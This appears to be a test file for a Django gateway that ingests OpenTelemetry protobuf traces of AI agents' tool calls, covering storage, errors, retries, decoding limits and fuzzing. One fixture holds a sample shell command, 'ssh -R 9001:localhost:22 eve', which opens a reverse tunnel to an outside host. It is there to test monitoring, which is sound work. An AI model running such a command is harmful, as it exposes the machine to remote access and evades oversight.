"""OTLP in protobuf, as the OpenTelemetry SDK sends it, and as nobody should."""

import json
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest
from django.db import OperationalError
from django.test import Client
from google.rpc.status_pb2 import Status
from hypothesis import given
from hypothesis import strategies as st
from opentelemetry.exporter.otlp.proto.http import Compression
from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import (
    ExportTraceServiceRequest,
    ExportTraceServiceResponse,
)
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, ArrayValue, KeyValue, KeyValueList
from opentelemetry.proto.resource.v1.resource_pb2 import Resource as WireResource
from opentelemetry.proto.trace.v1.trace_pb2 import ResourceSpans, ScopeSpans, Span
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import BatchSpanProcessor
from opentelemetry.trace import StatusCode

from apps.gateway import ingest, otlp_wire, traces
from apps.telemetry.models import Episode, ToolCall
from tests.gateway.machine import Machine
from tests.gateway.test_traces_door import token
from tests.gateway.working import run_start, told
from tests.live import Web, web

KIND = "application/x-protobuf"
START = 1_795_000_000_000_000_000


@pytest.fixture
def server(transactional_db: None) -> Iterator[Web]:
    with web() as running:
        yield running


def a_span(**fields: Any) -> Span:
    return Span(
        trace_id=b"\x01" * 16,
        span_id=fields.pop("span_id", b"\x02" * 8),
        name="execute_tool shell",
        start_time_unix_nano=START,
        attributes=[KeyValue(key="gen_ai.tool.name", value=AnyValue(string_value="shell"))],
        **fields,
    )


def request(*spans: Span) -> bytes:
    run = KeyValue(key="sentinel.run", value=AnyValue(string_value="rome"))
    return ExportTraceServiceRequest(
        resource_spans=[
            ResourceSpans(resource=WireResource(attributes=[run]), scope_spans=[ScopeSpans(spans=spans)])
        ]
    ).SerializeToString()


def send(body: bytes, text: str) -> Any:
    return Client().post("/v1/traces", body, content_type=KIND, headers={"Authorization": f"Bearer {text}"})


@pytest.mark.parametrize("compression", [Compression.NoCompression, Compression.Gzip])
def test_what_the_sdk_exports_is_stored(server: Web, compression: Compression) -> None:
    told(Machine.enrolled(), run_start())
    exporter = OTLPSpanExporter(
        f"{server.address}/v1/traces", headers={"Authorization": f"Bearer {token()}"}, compression=compression
    )
    provider = TracerProvider(resource=Resource({"sentinel.run": "rome"}))
    provider.add_span_processor(BatchSpanProcessor(exporter))
    tracer = provider.get_tracer("trainer")
    with tracer.start_as_current_span("invoke_agent coder") as episode:
        episode.set_attributes({"gen_ai.operation.name": "invoke_agent", "gen_ai.conversation.id": "traj-9"})
        with tracer.start_as_current_span("execute_tool shell") as call:
            call.set_attributes(
                {
                    "gen_ai.operation.name": "execute_tool",
                    "gen_ai.tool.name": "shell",
                    "gen_ai.tool.call.id": "call_1",
                    "gen_ai.tool.call.arguments": json.dumps({"command": "ssh -R 9001:localhost:22 eve"}),
                    "gen_ai.conversation.id": "traj-9",
                    "global_step": 41,
                    "argv": ["ssh", "-R"],
                }
            )
            call.set_status(StatusCode.ERROR)
    assert provider.force_flush()
    provider.shutdown()
    stored = ToolCall.objects.get()
    assert stored.run
    assert (stored.run.name, stored.name, stored.call_id) == ("rome", "shell", "call_1")
    assert stored.arguments == '{"command": "ssh -R 9001:localhost:22 eve"}'
    assert (stored.global_step, stored.failed, stored.arguments_captured) == (41, True, True)
    assert stored.trace_id == format(call.get_span_context().trace_id, "032x")
    assert stored.span_id == format(call.get_span_context().span_id, "016x")
    assert stored.parent_span_id == format(episode.get_span_context().span_id, "016x")
    assert stored.ended_at
    assert Episode.objects.get().native_id == "traj-9"
    assert stored.episode == Episode.objects.get()


@pytest.mark.django_db
def test_it_is_answered_in_protobuf_and_says_what_was_not_taken() -> None:
    text = token()
    good = send(request(a_span()), text)
    assert (good.status_code, good["Content-Type"]) == (200, KIND)
    assert not ExportTraceServiceResponse.FromString(good.content).HasField("partial_success")
    nameless = Span(trace_id=b"\x01" * 16, name="execute_tool x", start_time_unix_nano=START)
    large = a_span(span_id=b"\x03" * 8, trace_state="x" * (otlp_wire.LARGEST_SPAN + 1))
    more = send(request(a_span(span_id=b"\x04" * 8), nameless, large), text)
    partial = ExportTraceServiceResponse.FromString(more.content).partial_success
    assert partial.rejected_spans == 2
    assert partial.error_message.endswith(".")
    assert ToolCall.objects.count() == 2


@pytest.mark.django_db
@pytest.mark.parametrize("body", [b"\x0a", b"\x0a\x05abc", b"\xff" * 40, b"\x0b\x0c", request(a_span())[:-3]])
def test_broken_frames_are_refused_and_not_sent_again(body: bytes) -> None:
    answer = send(body, token())
    assert (answer.status_code, answer["Content-Type"]) == (400, KIND)
    assert "no OTLP request" in Status.FromString(answer.content).message
    assert not ToolCall.objects.exists()


@pytest.mark.django_db
def test_exporter_is_asked_to_come_again_while_the_database_is_away(monkeypatch: pytest.MonkeyPatch) -> None:
    def away(_: object, **__: object) -> None:
        raise OperationalError

    text = token()
    monkeypatch.setattr(ingest, "tell_traces", away)
    answer = send(request(a_span()), text)
    assert (answer.status_code, answer["Retry-After"]) == (503, "2")
    assert Status.FromString(answer.content).code == 503


def test_values_of_every_kind_are_read() -> None:
    inner = AnyValue(kvlist_value=KeyValueList(values=[KeyValue(key="k", value=AnyValue(int_value=7))]))
    span = a_span()
    for key, value in {
        "list": AnyValue(array_value=ArrayValue(values=[AnyValue(bool_value=True), inner])),
        "half": AnyValue(double_value=0.5),
        "bytes": AnyValue(bytes_value=b"x"),
        "none": AnyValue(),
    }.items():
        span.attributes.append(KeyValue(key=key, value=value))
    ((read, resource),) = otlp_wire.spans_of(request(span))
    assert read
    expected = {
        "gen_ai.tool.name": "shell",
        "list": [True, {"k": 7}],
        "half": 0.5,
        "bytes": None,
        "none": None,
    }
    assert read["attributes"] == expected
    assert resource == {"attributes": {"sentinel.run": "rome"}}


def test_a_value_deeper_than_anybody_writes_is_cut() -> None:
    value = AnyValue(string_value="deep")
    for _ in range(40):
        value = AnyValue(array_value=ArrayValue(values=[value]))
    span = a_span()
    span.attributes.append(KeyValue(key="x", value=value))
    ((read, _),) = otlp_wire.spans_of(request(span))
    assert read
    assert "deep" not in json.dumps(read)


def test_many_empty_spans_stand_in_memory_one_at_a_time() -> None:
    """Two bytes each on the wire; decoded all at once they would take some hundred times as much."""
    scope = b"\x12\x00" * 500_000
    for number in (2, 1):
        scope = bytes([number << 3 | 2]) + _varint(len(scope)) + scope
    tracemalloc.start()
    read, rejected = traces._read(otlp_wire.spans_of(scope), None)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert (read, rejected.total()) == ([], 500_000)
    assert peak < len(scope)


def _varint(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


@given(st.binary(max_size=200), st.integers(0, 400), st.binary(max_size=4))
def test_bytes_of_any_kind_are_read_or_refused(noise: bytes, place: int, change: bytes) -> None:
    whole = request(a_span(), a_span(parent_span_id=b"\x05" * 8))
    for body in (noise, whole[:place] + change + whole[place + len(change) :]):
        try:
            traces._read(otlp_wire.spans_of(body), None)
        except traces.RefusedError as refused:
            assert refused.status == 400
